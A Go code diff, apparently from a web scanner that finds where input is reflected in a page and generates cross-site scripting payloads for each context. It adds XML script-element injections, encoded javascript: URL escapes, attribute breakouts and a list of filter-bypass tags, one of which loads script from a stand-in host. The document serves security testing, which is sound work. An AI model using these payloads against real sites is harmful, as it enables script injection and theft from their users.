@@ -33,7 +33,8 @@ type context struct {
 	name    string // of the attribute
 	quote   byte   // around the attribute's value, or the string in script; 0: none
 	state   byte   // in script: the quote, '/' in a comment to the end of the line, '*' in a block comment, '`' in a template, 0 in code
-	only    int    // number of the one payload to try; 0: all
+	address bool   // the script is an address, in which percent signs encode
+	xml     bool   // the page is XML
 }
 
 // describe tells the place to people.
@@ -65,7 +66,7 @@ var addressed = map[string]bool{"href": true, "src": true, "action": true, "form
 
 // foreign are attributes whose address decides what runs in the page or where its
 // forms go.
-var foreign = map[string]string{"script": "src", "base": "href", "form": "action", "iframe": "src", "embed": "src", "object": "data"}
+var foreign = map[string]string{"script": "src", "base": "href", "form": "action", "iframe": "src", "embed": "src", "object": "data", "link": "href"}
 
 // rawText are elements whose content is no markup.
 var rawText = map[string]bool{"textarea": true, "title": true, "style": true, "noscript": true, "xmp": true, "iframe": true, "noembed": true, "noframes": true, "plaintext": true}
@@ -74,6 +75,7 @@ var rawText = map[string]bool{"textarea": true, "title": true, "style": true, "n
 func contexts(resp *message.Response, word string) []context {
 	var out []context
 	add := func(c context) {
+		c.xml = isXML(resp)
 		for _, known := range out {
 			if known == c {
 				return
@@ -81,7 +83,7 @@ func contexts(resp *message.Response, word string) []context {
 		}
 		out = append(out, c)
 	}
-	z := html.NewTokenizer(strings.NewReader(resp.Text()))
+	z := html.NewTokenizer(strings.NewReader(strings.ToLower(resp.Text())))
 	open := "" // the raw element that is open
 	for {
 		switch z.Next() {
@@ -154,7 +156,7 @@ func inside(raw, element, word string) []context {
 			out = append(out, context{kind: inAddress, element: element, name: name, quote: quote})
 		case addressed[name] && strings.HasPrefix(strings.ToLower(value), "javascript:"):
 			for _, state := range states(strings.TrimSpace(html.UnescapeString(raw[start:i+len(word)])), word) {
-				out = append(out, context{kind: inHandler, element: element, name: name, quote: quote, state: state})
+				out = append(out, context{kind: inHandler, element: element, name: name, quote: quote, state: state, address: true})
 			}
 		default:
 			out = append(out, context{kind: inAttribute, element: element, name: name, quote: quote})
@@ -285,6 +287,9 @@ func states(script, word string) []byte {
 // as a function.
 func (c context) payloads(word string) []string {
 	call := word + "(1)"
+	if c.xml {
+		return c.xmlPayloads(call)
+	}
 	tags := []string{"<svg onload=" + call + ">", "<img\nsrc=x\nonerror=" + call + "\n>", "<script>" + call + "</script>", "<ScRiPt>" + call + "</sCrIpT>", "<svg/onload=" + call + "//",
 		"<a href=javascript:" + call + ">x</a>", "<scr<script>ipt>" + call + "</scr</script>ipt>"}
 	before := func(prefix string, list ...string) []string {
@@ -318,8 +323,12 @@ func (c context) payloads(word string) []string {
 		}
 		return append([]string{"javascript:" + call + "//", "JaVaScRiPt:" + call + "//", "java\tscript:" + call + "//", "javascript://%0a" + call + "//"}, leave...)
 	case inAttribute:
+		if c.element == "iframe" && c.name == "srcdoc" {
+			c.name = ""
+			return append(tags[:3:3], c.payloads(word)...) // the value is a page
+		}
 		if q == "" {
-			return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "x><svg onload=" + call + ">"}
+			return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "x><svg onload=" + call + ">", "x\fonfocus=" + call + "\fautofocus\ftabindex=1\f"}
 		}
 		return []string{q + "><svg onload=" + call + ">", q + " onfocus=" + call + " autofocus tabindex=1 x=" + q, q + "><script>" + call + "</script>", q + "/onfocus=" + call + "/autofocus/x=" + q,
 			q + "><img src=x onerror=" + call + ">"}
@@ -328,9 +337,50 @@ func (c context) payloads(word string) []string {
 	case inScript:
 		return append(c.code(call), "</script><svg onload="+call+">", "</script><script>"+call+"</script>")
 	case inHandler:
-		return append(c.code(call), context{kind: inAttribute, element: c.element, name: c.name, quote: c.quote}.payloads(word)...)
+		list := c.code(call)
+		if c.address { // what is encoded twice is decoded when it runs
+			escape := strings.NewReplacer("'", "%27", `"`, "%22", "`", "%60")
+			for _, p := range c.code(call)[:min(2, len(list))] {
+				list = append(list, escape.Replace(p))
+			}
+		}
+		return append(list, context{kind: inAttribute, element: c.element, name: c.name, quote: c.quote}.payloads(word)...)
 	}
 	return nil
+}
+
+// xmlPayloads are values that become an element of script in a document of XML, and
+// leave it well-formed.
+func (c context) xmlPayloads(call string) []string {
+	element := `<x:script xmlns:x="` + xhtml + `">` + call + `</x:script>`
+	q := string(c.quote)
+	switch c.kind {
+	case inAttribute, inAddress, inHandler:
+		if c.quote == 0 {
+			return nil
+		}
+		element = strings.ReplaceAll(element, `"`, q)
+		return []string{q + "/>" + element + "<x y=" + q, q + ">" + element + "<x y=" + q}
+	case inTag:
+		return nil
+	}
+	return []string{element, "]]>" + element + "<![CDATA["}
+}
+
+// anyTags are values for what lets some elements or attributes through: each has
+// another element, and another way in which it runs.
+func anyTags(word string) []string {
+	call := word + "(1)"
+	return []string{
+		"<img src=x onerror=" + call + ">", "<svg onload=" + call + ">", "<script>" + call + "</script>", "<a href=javascript:" + call + ">x</a>",
+		"<div onmouseover=" + call + ">x</div>", "<iframe src=javascript:" + call + "></iframe>", "<body onload=" + call + ">",
+		"<details open ontoggle=" + call + ">x</details>", "<input onfocus=" + call + " autofocus>", "<video src=x onerror=" + call + "></video>",
+		"<form action=javascript:" + call + "><input type=submit></form>", "<x onfocus=" + call + " autofocus tabindex=1>x</x>",
+		`<iframe srcdoc="&lt;svg onload=` + call + `&gt;"></iframe>`, "<svg><animate onbegin=" + call + " attributeName=x dur=1s></svg>",
+		"<b onclick=" + call + ">x</b>", "<img src=x onerror=" + word + "`1`>", "<img src=x onerror=" + word + "&lpar;1&rpar;>",
+		"<script src=//" + word + ".example/></script>", "<style>x{" + word + ":1}</style>", "<div style=" + word + ":1>x</div>", "<a style=" + word + ":1>x</a>",
+		"<meta http-equiv=refresh content=0;url=//" + word + ".example/>",
+	}
 }
 
 // code returns values that leave the state of a script.
